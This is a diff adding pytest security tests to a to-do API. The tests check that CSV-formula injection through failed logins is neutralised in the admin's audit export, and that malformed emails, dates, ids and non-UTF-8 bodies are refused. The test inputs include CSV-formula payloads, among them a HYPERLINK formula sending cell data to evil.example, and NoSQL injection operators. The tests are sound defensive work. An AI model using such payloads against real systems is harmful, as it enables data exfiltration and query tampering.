@@ -5,8 +5,11 @@ carries a stack trace."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import socket
+from collections.abc import Callable
 from typing import Any
 from urllib.parse import urlsplit
 
@@ -14,9 +17,16 @@ import httpx
 import pytest
 from pymongo.database import Database
 
-from tests.e2e.support import PROBLEM_KEYS, assert_problem, projects_and_tasks, users_state
+from tests.e2e.support import (
+    PROBLEM_KEYS,
+    assert_problem,
+    count_audits,
+    projects_and_tasks,
+    users_state,
+)
 from tests.factories import DEFAULT_PASSWORD, make_project
 from tests.security.conftest import Cast
+from todo_common.models import Role, User
 
 UUID = re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$")
 OPERATORS: list[Any] = [{"$gt": ""}, {"$ne": None}, {"$regex": ".*"}, ["$gt", ""]]
@@ -208,3 +218,233 @@ def test_the_docs_and_health_say_nothing_about_the_servers_behind(client: httpx.
     spec = client.get("/openapi.json").text
     for secret in ("mongodb://", "redis://", "127.0.0.1", "SECURITY_SECRET_KEY"):
         assert secret not in spec
+
+
+# --- found by the outside attack (issue 8) ----------------------------------------
+
+Login = Callable[[str, str], dict[str, Any]]
+MakeUser = Callable[..., tuple[User, dict[str, str]]]
+Db = Database[dict[str, Any]]
+WRONG = "not-the-password-1"
+
+
+# --- 3. no formula reaches the ADMIN's spreadsheet --------------------------------------------
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_a_formula_planted_through_a_failed_login_is_neutralised_in_the_csv_export(
+    api: httpx.Client, db: Db, user_with_token: MakeUser
+) -> None:
+    # Given failed logins for emails that are spreadsheet formulas, sent without an account
+    planted = ["=1+2@evil.example", "+cmd|x!a@evil.example", "-2+3@evil.example"]
+    for email in planted:
+        response = api.post("/auth/login", json={"email": email, "password": WRONG})
+        assert_problem(response, 401)
+    _, admin = user_with_token(Role.ADMIN)
+    assert count_audits(db, {"entityId": {"$in": planted}}, len(planted)) == len(planted)
+
+    # When the ADMIN exports the trail as CSV
+    export = api.get("/audits", headers={**admin, "Accept": "text/csv"})
+
+    # Then every planted value is there, quoted with a leading apostrophe, and no cell starts a
+    # formula
+    assert export.status_code == 200
+    rows = list(csv.reader(io.StringIO(export.text)))
+    cells = [cell for row in rows[1:] for cell in row]
+    for email in planted:
+        assert f"'{email}" in cells
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+
+
+@pytest.mark.parametrize(
+    "username", ["not-an-email", '=HYPERLINK("http://evil.example/?x="&A1,"c")', "x" * 60_000]
+)
+def test_the_token_form_refuses_a_username_that_is_not_an_email_and_records_nothing(
+    api: httpx.Client, db: Db, username: str
+) -> None:
+    # When the OAuth2 form is sent with a username that is no email
+    response = api.post("/auth/token", data={"username": username, "password": WRONG})
+
+    # Then it is a 422 naming the field
+    body = assert_problem(response, 422)
+    assert ["body", "username"] in [error["loc"] for error in body["errors"]]
+
+    # And nothing was audited: a later failed login is recorded, the refused one never is
+    api.post("/auth/login", json={"email": "sentinel@example.com", "password": WRONG})
+    assert count_audits(db, {"entityId": "sentinel@example.com"}, 1) == 1
+    assert db.audits.count_documents({"entityId": username}) == 0
+    assert db.audit_outbox.count_documents({}) == 0 or not list(
+        db.audit_outbox.find({"event.entityId": username})
+    )
+
+
+def test_an_email_over_320_characters_is_refused_before_anything_is_stored(
+    api: httpx.Client, db: Db
+) -> None:
+    email = "a" * 64 + "@" + ".".join(["b" * 60] * 5) + ".example"
+    assert len(email) > 320
+    login = api.post("/auth/login", json={"email": email, "password": WRONG})
+    assert_problem(login, 422)
+    form = api.post("/auth/token", data={"username": email, "password": WRONG})
+    assert_problem(form, 422)
+    api.post("/auth/login", json={"email": "sentinel@example.com", "password": WRONG})
+    assert count_audits(db, {"entityId": "sentinel@example.com"}, 1) == 1
+    assert db.audits.count_documents({"entityId": email}) == 0
+
+
+# --- 5. dates that cannot be represented are 422, never 500 ------------------------------------
+
+UNREPRESENTABLE = ("9999-12-31T23:00:00-14:00", "0001-01-01T00:00:00+14:00")
+EXTREME_BUT_VALID = ("9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z")
+
+
+def _date_query_params(document: dict[str, Any]) -> list[tuple[str, str]]:
+    """(path, parameter) for every GET query parameter that is a date-time in the document."""
+    found = []
+    for path, operations in document["paths"].items():
+        for parameter in operations.get("get", {}).get("parameters", []):
+            schema = parameter.get("schema", {})
+            options = schema.get("anyOf", [schema])
+            if parameter["in"] == "query" and any(o.get("format") == "date-time" for o in options):
+                found.append((path, parameter["name"]))
+    return found
+
+
+def _date_body_fields(document: dict[str, Any]) -> list[tuple[str, str, str]]:
+    """(method, path, field) for every request-body field that is a date-time."""
+    schemas = document["components"]["schemas"]
+    found = []
+    for path, operations in document["paths"].items():
+        for method, operation in operations.items():
+            content = operation.get("requestBody", {}).get("content", {})
+            ref = content.get("application/json", {}).get("schema", {}).get("$ref")
+            if not ref:
+                continue
+            properties = schemas[ref.rsplit("/", 1)[1]].get("properties", {})
+            for name, schema in properties.items():
+                options = schema.get("anyOf", [schema])
+                if any(option.get("format") == "date-time" for option in options):
+                    found.append((method, path, name))
+    return found
+
+
+def test_every_date_parameter_and_field_of_the_api_is_known_to_this_test(
+    api: httpx.Client,
+) -> None:
+    # The routes below are exercised one by one; a new date input must be added to them.
+    document = api.get("/openapi.json").json()
+    assert sorted(_date_query_params(document)) == sorted(DATE_QUERY_ROUTES)
+    assert sorted(_date_body_fields(document)) == sorted(DATE_BODY_ROUTES)
+
+
+DATE_QUERY_ROUTES = [
+    ("/tasks", "dueBefore"),
+    ("/audits", "from"),
+    ("/audits", "to"),
+    ("/reports/activity", "from"),
+    ("/reports/activity", "to"),
+]
+DATE_BODY_ROUTES = [
+    ("post", "/tasks", "dueDate"),
+    ("put", "/tasks/{task_id}", "dueDate"),
+    ("patch", "/tasks/{task_id}", "dueDate"),
+]
+
+
+@pytest.mark.parametrize(("path", "name"), DATE_QUERY_ROUTES)
+@pytest.mark.parametrize("value", UNREPRESENTABLE)
+def test_an_unrepresentable_date_in_a_query_is_422_naming_the_parameter(
+    api: httpx.Client, user_with_token: MakeUser, path: str, name: str, value: str
+) -> None:
+    _, admin = user_with_token(Role.ADMIN)
+    body = assert_problem(api.get(path, params={name: value}, headers=admin), 422)
+    assert ["query", name] in [error["loc"] for error in body["errors"]]
+
+
+@pytest.mark.parametrize(("path", "name"), DATE_QUERY_ROUTES)
+@pytest.mark.parametrize("value", EXTREME_BUT_VALID)
+def test_the_first_and_last_representable_instants_in_a_query_are_answered(
+    api: httpx.Client, user_with_token: MakeUser, path: str, name: str, value: str
+) -> None:
+    _, admin = user_with_token(Role.ADMIN)
+    params = {name: value}
+    if path == "/reports/activity":  # the report needs both ends, at most a year apart
+        first = value.startswith("0001")
+        params = (
+            {"from": value, "to": "0001-12-31T00:00:00Z"}
+            if first
+            else {
+                "from": "9999-12-01T00:00:00Z",
+                "to": value,
+            }
+        )
+    response = api.get(path, params=params, headers=admin)
+    assert response.status_code == 200, response.text
+
+
+@pytest.mark.parametrize(("method", "path", "name"), DATE_BODY_ROUTES)
+@pytest.mark.parametrize("value", UNREPRESENTABLE)
+def test_an_unrepresentable_date_in_a_body_is_422_and_changes_nothing(
+    api: httpx.Client,
+    db: Db,
+    user_with_token: MakeUser,
+    method: str,
+    path: str,
+    name: str,
+    value: str,
+) -> None:
+    admin_user, admin = user_with_token(Role.ADMIN)
+    project = make_project(db, owner=admin_user)
+    created = api.post("/tasks", json={"projectId": project.id, "description": "d"}, headers=admin)
+    assert created.status_code == 201, created.text
+    task_id = created.json()["id"]
+    body: dict[str, Any] = {name: value}
+    if method in ("post", "put"):
+        body |= {"projectId": project.id, "description": "d"}
+    url = path.replace("{task_id}", task_id)
+    response = api.request(method.upper(), url, json=body, headers=admin)
+    problem = assert_problem(response, 422)
+    assert ["body", name] in [error["loc"] for error in problem["errors"]]
+    assert db.tasks.count_documents({}) == 1
+    stored = db.tasks.find_one({})
+    assert stored is not None
+    assert stored["version"] == 1
+    assert stored["dueDate"] is None
+
+
+# --- 9. one rule for ids ------------------------------------------------------------------------
+
+
+def test_an_upper_case_id_is_accepted_in_filters_as_in_paths(
+    api: httpx.Client, db: Db, user_with_token: MakeUser
+) -> None:
+    admin_user, admin = user_with_token(Role.ADMIN)
+    project = make_project(db, owner=admin_user)
+    api.post("/tasks", json={"projectId": project.id, "description": "d"}, headers=admin)
+    upper = project.id.upper()
+
+    assert api.get(f"/projects/{upper}", headers=admin).json()["id"] == project.id
+    tasks = api.get("/tasks", params={"projectId": upper}, headers=admin)
+    assert tasks.status_code == 200, tasks.text
+    assert [t["projectId"] for t in tasks.json()["items"]] == [project.id]
+    owned = api.get("/projects", params={"ownerId": admin_user.id.upper()}, headers=admin)
+    assert owned.status_code == 200, owned.text
+    assert [p["id"] for p in owned.json()["items"]] == [project.id]
+    created = api.post("/tasks", json={"projectId": upper, "description": "upper"}, headers=admin)
+    assert created.status_code == 201, created.text
+    assert created.json()["projectId"] == project.id
+
+
+def test_a_body_that_is_not_utf8_is_refused_and_creates_nothing(
+    api: httpx.Client, db: Db, user_with_token: MakeUser
+) -> None:
+    _, admin = user_with_token(Role.ADMIN)
+    raw = b'{"name": "caf\xe9 \xff", "description": "d"}'
+    response = api.post(
+        "/projects", content=raw, headers={**admin, "Content-Type": "application/json"}
+    )
+    assert response.status_code == 400, response.text
+    assert response.headers["content-type"].startswith("application/problem+json")
+    assert response.json()["status"] == 400
+    assert db.projects.count_documents({}) == 0
